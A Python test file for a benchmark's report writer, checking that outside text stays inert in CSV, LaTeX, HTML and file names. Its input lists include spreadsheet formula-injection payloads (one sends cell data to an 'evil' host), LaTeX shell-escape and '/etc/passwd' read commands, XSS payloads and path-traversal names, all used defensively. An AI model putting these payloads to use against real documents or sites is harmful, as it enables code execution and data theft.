"""Text from outside stays text, whatever file of the report it goes to."""

import logging
import re
import shutil
import subprocess
from dataclasses import replace
from html.parser import HTMLParser

import matplotlib as mpl
import polars as pl
import pytest
from cells import only, with_texts
from matplotlib.figure import Figure

from benchmark.records import DISAGREEMENT
from benchmark.report import style
from benchmark.report.figures.axes import Drawing
from benchmark.report.figures.write import write_figures
from benchmark.report.grid import make_grid
from benchmark.report.outside import (
    file_name,
    latex_text,
    markdown_text,
    one_line,
    plain,
    write_csv,
)
from benchmark.report.report import write_report
from benchmark.report.style import dataset_name, estimator_look, metric_look, model_name
from benchmark.report.tables.formats import write_table
from benchmark.report.tables.grid import grid_tables

FORMULAS = [
    "=cmd|' /C calc'!A0", "=1+1", "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "＝1+1", "＋1", "－1+2", "＠x", "=HYPERLINK(\"http://evil/?\"&A1)", "%0A=1",
    "|x", "-", "\u00a0=1+1", "-0.5.1", "+e5", "=\u202e1",
]  # fmt: skip
NUMBERS = ["-0.5", "+3", "-1e-5", "1", ".5", "-50%", "0", "-7."]
HIDDEN = [
    "\x1b[2J", "\x07", "\x00", "\x9b31m", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028",
    "\u061c", "\u00ad", "\ue000", "\U000e0041", "\x7f", "\x08",
]  # fmt: skip
COMMANDS = [
    r"\input{/etc/passwd}", r"\write18{touch pwned}", r"\immediate\write18{id}", "^^5cinput x",
    "^^M", "%comment", "a$b", "$$", "~", "{", "}", "}}}", "&", "#1", "_", "^", r"\\", "\\",
    r"\end{document}", r"\catcode`\%=0", "[x]", "*", "\"a", "`", "|", "<>", "a\n\nb", "\x1b[31m",
    "模型", "😀", "é", "Ångström", "ñ", "\u0301", "ﬀ", "ß", "Ω", "İ", "½", "\u202egnp", "\x00",
]  # fmt: skip
NAMES = [
    "$\\frac", "a$", "$x_", "\\n", "_{", "$$", "_lead", "__", "a\nb", "%s {0}", "<b>", "a" * 300,
    " ", "\x1b[2J", "\u202egnp.exe", "=cmd|'x'!A0", "{{ 7 * 7 }}", "</script><!--", "\u2028",
    "../../x",
]  # fmt: skip


def read_back(path):
    return pl.read_csv(path, infer_schema=False)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_takes_no_cell_and_no_column_for_a_formula(text, tmp_path):
    write_csv(pl.DataFrame({text: [text, "x"], "y": [-0.5, 1.0]}), tmp_path / "t.csv")
    lines = (tmp_path / "t.csv").read_text().splitlines()
    assert len(lines) == 3  # each text on one line
    for line in lines[:2]:
        assert line.startswith("\"'")
    assert read_back(tmp_path / "t.csv")["y"].to_list() == ["-0.5", "1.0"]


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_stay_numbers_also_where_they_are_texts(text, tmp_path):
    write_csv(pl.DataFrame({"a": [text], "b": [-0.5]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == f'"a","b"\n"{text}",-0.5\n'


def test_what_separates_cells_elsewhere_is_inside_quotes(tmp_path):
    odd = 'a;=1+1\t=1,"=1'
    write_csv(pl.DataFrame({"x": [odd, None, ""]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == '"x"\n"a;=1+1\\t=1,""=1"\n\n""\n'


def test_what_csv_has_no_form_for_is_written_as_text(tmp_path):
    odd = pl.DataFrame(
        {"list": [["=1", "b"], None], "struct": [{"a": 1}, {"a": 2}], "bytes": [b"=x", b"\x1b"]}
    )
    write_csv(odd.with_columns(span=pl.duration(seconds=1)), tmp_path / "t.csv")
    assert read_back(tmp_path / "t.csv").height == 2


@pytest.mark.parametrize("char", HIDDEN)
def test_hidden_characters_are_spelled_out_everywhere(char, tmp_path):
    text = f"a{char}b"
    write_csv(pl.DataFrame({text: [text]}), tmp_path / "t.csv")
    everywhere = [
        plain(text), one_line(text), markdown_text(text), latex_text(text), file_name(text),
        (tmp_path / "t.csv").read_text(), model_name(text), dataset_name(text),
        estimator_look(text).name, metric_look(text).name, estimator_look(f"probe.{text}").name,
    ]  # fmt: skip
    assert not [shown for shown in everywhere if char in shown]


def test_letters_of_all_languages_stay_as_they_are():
    for text in ("模型", "é", "עברית", "Ελληνικά", "a\nb\tc", "😀"):
        assert plain(text) == text


@pytest.mark.parametrize("text", COMMANDS)
def test_tex_has_no_command_but_those_that_are_written_for_a_character(text):
    shown = latex_text(text)
    assert shown.isascii()
    assert shown.isprintable()
    own = (
        r"\\(textbackslash|textasciitilde|textasciicircum|textbar|textless|textgreater|ss|dots)\{\}"
    )
    bare = re.sub(
        own + r"|\\char\d+\{\}|\\[&%$#_{}]|\\['`^~=.\"urHvc]\{[A-Za-z]\}|\{[\[\]*]\}", "", shown
    )
    assert not re.search(r"[\\{}$&#^_~%]", bare), shown


@pytest.mark.parametrize("engine", ["pdflatex", "xelatex", "lualatex"])
def test_every_engine_typesets_what_comes_from_outside(engine, cell, tmp_path):
    if shutil.which(engine) is None:
        pytest.skip(f"no {engine} is installed")
    odd = [replace(only(cell, "p_true"), model=name, dataset=name) for name in NAMES]
    grid = make_grid(odd)
    for table in grid_tables(grid)[:1]:
        write_table(table._replace(note=" ".join(COMMANDS)), tmp_path)
    (tmp_path / "all.tex").write_text(
        r"\documentclass{article}\usepackage{booktabs,graphicx}\begin{document}\input{brier}"
        + "\n\n".join(map(latex_text, COMMANDS)) + r"\end{document}"
    )  # fmt: skip
    command = [engine, "-interaction=nonstopmode", "-halt-on-error", "-shell-escape", "all.tex"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout[-2000:]
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize(
    "name", ["../../x", "/etc/x", "a/b", "..", ".", "", "con:", "x\x00y", "a" * 500, "javascript:x"]
)
def test_no_name_of_a_table_or_figure_leaves_its_folder(name, cell, tmp_path):
    def draw(_):
        return Drawing(name, name, name, Figure(figsize=(1, 1)))

    odd = replace(only(cell, "p_true"), applications={name: pl.DataFrame({"a": [1]})})
    page = write_report(make_grid([odd]), tmp_path / "report", more=[draw])
    assert [path.name for path in tmp_path.iterdir()] == ["report"]
    written = {path.relative_to(page.parent).parent.as_posix() for path in page.parent.rglob("*.*")}
    assert written == {".", "tables", "figures"}
    links = re.findall(r'href="([^"#][^"]*)"', page.read_text())
    assert all((page.parent / link).is_file() and re.fullmatch(r"[\w.-]+", link) for link in links)


def test_an_application_can_t_take_the_name_of_the_harness_s_own_tables(cell, tmp_path):
    mine = pl.DataFrame({"model": ["mine"], "x": [1]})
    odd = replace(only(cell, "p_true"), applications={"metrics": mine})
    write_report(make_grid([odd]), tmp_path)
    assert "x" not in pl.read_csv(tmp_path / "metrics.csv").columns
    read = pl.read_csv(tmp_path / "application_metrics.csv")
    assert read.columns == ["cell_model", "dataset", "split", "model", "x"]


def test_names_that_look_like_formulas_are_drawn_as_they_are(cell, tmp_path):
    own = cell.estimates["probe"]
    metrics = cell.metrics.filter(estimator="probe")
    odd = replace(
        cell,
        estimates=dict.fromkeys(NAMES, own),
        metrics=pl.concat([metrics.with_columns(estimator=pl.lit(name)) for name in NAMES]),
        differences=cell.differences.clear(),
        applications={},
    )
    cells = [replace(odd, model=name, dataset=name) for name in NAMES[:6]]
    plates, _ = write_figures(make_grid(cells), tmp_path / "grid")
    alone, _ = write_figures(make_grid(cells[:1]), tmp_path / "cell")
    assert plates
    assert alone


class Tags(HTMLParser):
    """The elements of a page in their order, with the names of their attributes."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page.read_text(encoding="utf-8"))

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, [name for name, _ in attrs]))


MARKUP = [
    "</script><script>alert(1)</script>", "<!--", "--><script>", "<!--<script>", "\u2028\u2029",
    "javascript:alert(1)", '" onmouseover="alert(1)', "' onload='x", "</pre><img src=x onerror=a>",
    "]]>", "{{ 7 * 7 }}{% include 'x' %}", "&lt;&#x3c;script>", "<svg/onload=x>",
    "</title></style>",
    "<base href=//evil>", "`${x}`", "<meta http-equiv=refresh content=0>", "x" * 10**5,
    "\x00\x1b[2J\x08\u202e",
]  # fmt: skip


def marked(cell, text):
    """The cell with a text wherever one comes from a dataset, a mirror, a model or a grader."""
    base = only(cell, "p_true")
    families = [[{"key": "family", "value": f"{text}{i % 2}"}] for i in range(60)]
    questions = base.questions.with_columns(
        metadata=pl.Series(families, dtype=base.questions.schema["metadata"]),
        references=pl.Series([[text]] * 60),
        prompt=pl.lit(text),
        question=pl.lit(text),
    )
    said = pl.DataFrame([("q", text, text, 3)], schema=DISAGREEMENT, orient="row")
    log_loss = base.metrics.head(1).with_columns(metric=pl.lit(text))
    return replace(
        with_texts(base, text),
        questions=questions,
        disagreements=said,
        model=text,
        dataset=text,
        split=text,
        estimates={text: base.estimates["p_true"]},
        metrics=pl.concat([base.metrics, log_loss]).with_columns(estimator=pl.lit(text)),
        applications={text: pl.DataFrame({text: [text]})},
        failed={text: text},
    )


@pytest.mark.parametrize("text", MARKUP)
def test_no_text_adds_an_element_or_an_attribute_to_the_page(text, cell, tmp_path, monkeypatch):
    monkeypatch.setattr("benchmark.report.report.write_figures", lambda *_: ([], {}))
    pages = [
        write_report(make_grid([marked(cell, shown)]), tmp_path / name, {shown: shown})
        for name, shown in (("plain", "x"), ("odd", text))
    ]
    plain_page, odd_page = (Tags(page).found for page in pages)
    assert odd_page == plain_page
    assert pages[1].stat().st_size < 3_000_000
    visible = re.sub(r"<script.*?</script>", "", pages[1].read_text(encoding="utf-8"), flags=re.S)
    assert not [char for char in HIDDEN if char in visible]


def broken_formula(_):
    figure = Figure()
    figure.text(0, 0, r"$\frac$", parse_math=True)
    return Drawing("mine", "Mine", "", figure)


def raises(_):
    raise ValueError("\x1b[2Jno\nway" * 100)


@pytest.mark.parametrize("draw", [broken_formula, raises, lambda _: None])
def test_a_figure_of_another_package_that_fails_is_said_and_left_out(draw, cell, tmp_path, caplog):
    with caplog.at_level(logging.WARNING), mpl.rc_context(style.RC):
        page = write_report(make_grid([only(cell, "p_true")]), tmp_path, more=[draw])
    assert page.exists()
    (record,) = (record for record in caplog.records if "is left out" in record.getMessage())
    assert len(record.getMessage()) < 500
    assert record.getMessage().isprintable()


def test_a_report_that_is_killed_or_fails_leaves_the_old_one(cell, tmp_path, monkeypatch):
    grid = make_grid([only(cell, "p_true")])
    page = write_report(grid, tmp_path)
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}

    def stop(*_):
        raise KeyboardInterrupt

    for name in ("write_all_numbers", "write_table", "write_figures", "write_page", "_replace"):
        with monkeypatch.context() as patch:
            patch.setattr(f"benchmark.report.report.{name}", stop)
            with pytest.raises(KeyboardInterrupt):
                write_report(grid, tmp_path)
        after = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
        assert after == before
    assert page.exists()
